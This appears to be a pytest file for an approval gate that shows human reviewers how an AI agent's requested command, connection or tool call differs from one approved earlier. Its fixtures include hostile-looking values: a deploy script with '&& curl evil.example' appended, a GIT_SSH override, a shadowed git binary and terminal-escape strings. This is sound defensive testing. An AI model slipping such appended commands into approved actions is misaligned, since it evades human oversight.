"""The line that says what changed since something like it was approved."""

from __future__ import annotations

from time import process_time

import msgspec
import pytest
from tests.approvals.made import SITE, Memory, Says, Time, answer, command, connection, decision, desk_at, opened, vote

from ringfence.approvals.gate import Gate
from ringfence.approvals.objects import Request
from ringfence.approvals.since import since
from ringfence.model.action import Action, CommandAction, ConnectAction, FileAction, FileOperation, McpAction
from ringfence.model.vote import Authentication

HOUR_NS = 3600 * 10**9


def line(before: Action, now: Action, *, witness: str = "", after_ns: int = 2 * HOUR_NS) -> str:
    time = Time()
    asked = opened(desk_at(":memory:", time), decision(before))
    found = since(now, witness, (asked,), lambda _: True, time.now_ns + after_ns)
    return found[0] if found else ""


def script(text: str, cwd: str = "/w") -> CommandAction:
    return CommandAction(argv=("bash", "-c", text), cwd=cwd, shell=text)


PUSH = command("git", "push", "origin", "main")


@pytest.mark.parametrize(
    ("before", "now", "expected"),
    [
        (PUSH, PUSH, "  before   exactly this was approved 2 hours ago"),
        (
            PUSH,
            command("git", "push", "--force", "origin", "main"),
            "  changed  since `git push origin main` was approved 2 hours ago: now with `--force`",
        ),
        (
            PUSH,
            command("git", "push", "evil", "main", "v1"),
            "  changed  since `git push origin main` was approved 2 hours ago: now with `evil`, `v1`; without `origin`",
        ),
        (
            PUSH,
            command("git", "push", "origin", "main", cwd="/w/sub"),
            "  changed  since `git push origin main` was approved 2 hours ago: in `/w/sub`",
        ),
        (
            PUSH,
            msgspec.structs.replace(PUSH, environment=(("GIT_SSH", "/tmp/x"),)),
            "  changed  since `git push origin main` was approved 2 hours ago: other variables",
        ),
        (
            PUSH,
            msgspec.structs.replace(PUSH, executable="/w/git"),
            "  changed  since `git push origin main` was approved 2 hours ago: another program of that name",
        ),
        (
            script("make deploy"),
            script("make deploy && curl evil.example"),
            "  changed  since `make deploy` was approved 2 hours ago: now with `&& curl evil.example`",
        ),
        (
            script("make deploy"),
            script("make  deploy"),
            "  changed  since `make deploy` was approved 2 hours ago: other white space",
        ),
        (
            ConnectAction(host="a.example", port=443, method="GET", path="/x"),
            ConnectAction(host="a.example", port=8443, method="POST", path="/x"),
            "  changed  since `GET /x on a.example:443` was approved 2 hours ago: port 8443 in place of 443;"
            " `POST /x` in place of `GET /x`",
        ),
        (
            McpAction(server="forge", tool="merge", arguments='{"n":1}'),
            McpAction(server="forge", tool="merge", arguments='{"n":2}'),
            "  changed  since `merge of MCP server forge` was approved 2 hours ago: other arguments",
        ),
        (PUSH, command("npm", "publish"), ""),
        (PUSH, connection("git"), ""),
        (connection("a.example"), connection("b.example"), ""),
        (
            FileAction(operation=FileOperation.WRITE, path="/a"),
            FileAction(operation=FileOperation.WRITE, path="/b"),
            "",
        ),
    ],
)
def test_what_changed_is_named(before: Action, now: Action, expected: str) -> None:
    assert line(before, now) == expected


def test_a_script_that_changed_since_is_shouted() -> None:
    assert line(PUSH, PUSH, witness="sha256:other") == (
        "  before   exactly this was approved 2 hours ago, but A FILE THAT IT RUNS HAS CHANGED since"
    )


@pytest.mark.parametrize(
    ("after_ns", "words"),
    [(-HOUR_NS, "just now"), (0, "just now"), (HOUR_NS // 60, "1 minute ago"), (49 * HOUR_NS, "2 days ago")],
)
def test_how_long_ago_is_said_in_one_unit(after_ns: int, words: str) -> None:
    assert line(PUSH, PUSH, after_ns=after_ns).endswith(f"approved {words}")


def test_what_a_command_holds_draws_nothing_and_long_ones_are_cut() -> None:
    found = line(PUSH, command("git", "push", "origin", "main\x1b[2J\u202e\n", "x" * 500))

    assert found.isprintable()
    assert r"main\x1b[2J\u202e\n" in found
    assert len(found) < 300


def test_the_likest_of_many_is_compared_and_of_those_the_newest() -> None:
    time = Time()
    desk = desk_at(":memory:", time)
    asked: list[Request] = []
    for words in (("git", "fetch"), ("git", "push", "origin"), ("git", "push", "upstream"), ("git", "push", "origin")):
        asked.insert(0, opened(desk, decision(command(*words, cwd=f"/w/{len(asked)}"))))

    found = since(command("git", "push", "origin", "x", cwd="/w/3"), "", asked, lambda _: True, time.now_ns)

    assert found == ("  changed  since `git push origin` was approved just now: now with `x`",)


def test_what_nobody_really_approved_is_nothing_to_compare_with() -> None:
    time = Time()
    asked = opened(desk_at(":memory:", time), decision(PUSH))

    assert since(PUSH, "", (asked,), lambda _: False, time.now_ns) == ()


async def test_the_question_says_it_and_the_vote_is_about_those_lines() -> None:
    time, recorder, channel = Time(), Memory(), Says(answer)
    desk = desk_at(":memory:", time)
    gate = Gate(evaluate=decision, desk=desk, channel=channel, recorder=recorder, clock=time, site=SITE)

    async with gate:
        await gate.decide(PUSH, asked_by="exec")
        time.pass_seconds(1800)
        await gate.decide(PUSH, asked_by="exec")
        final = await gate.decide(command("git", "push", "--force", "origin", "main"), asked_by="exec")

    told = [[text for text in one.prompt if text.startswith(("  before", "  changed"))] for one in channel.asked]
    assert told == [
        [],
        ["  before   exactly this was approved 30 minutes ago"],
        ["  changed  since `git push origin main` was approved just now: now with `--force`"],
    ]
    assert final.resolved_by == "person"


def test_a_denied_an_open_and_an_agents_own_answer_are_no_approvals() -> None:
    time = Time()
    desk = desk_at(":memory:", time)
    denied = opened(desk, decision(command("a")))
    desk.cast(vote(denied, "no", approve=False))
    opened(desk, decision(command("b")))
    elsewhere = opened(desk, decision(command("c")), workspace="/other")
    desk.cast(vote(elsewhere, "there"))
    approved = opened(desk, decision(command("d")))
    desk.cast(vote(approved, "yes"))

    found = desk.approved("/w", 10)
    word = msgspec.structs.replace(
        vote(approved, "word"), approver="agent:x", authentication=Authentication.AGENT_REPORTED
    )

    assert [one.action for one in found] == [command("d")]
    assert desk.is_by_people(found[0])
    assert not word.is_human
    assert not desk.is_by_people(denied)


async def test_looking_through_many_costs_little() -> None:
    time = Time()
    desk = desk_at(":memory:", time)
    for number in range(300):
        desk.cast(vote(opened(desk, decision(command("make", str(number)))), f"v{number}"))
    began = process_time()

    found = since(command("make", "x"), "", desk.approved("/w", 200), desk.is_by_people, time.now_ns)

    assert found
    assert process_time() - began < 0.5
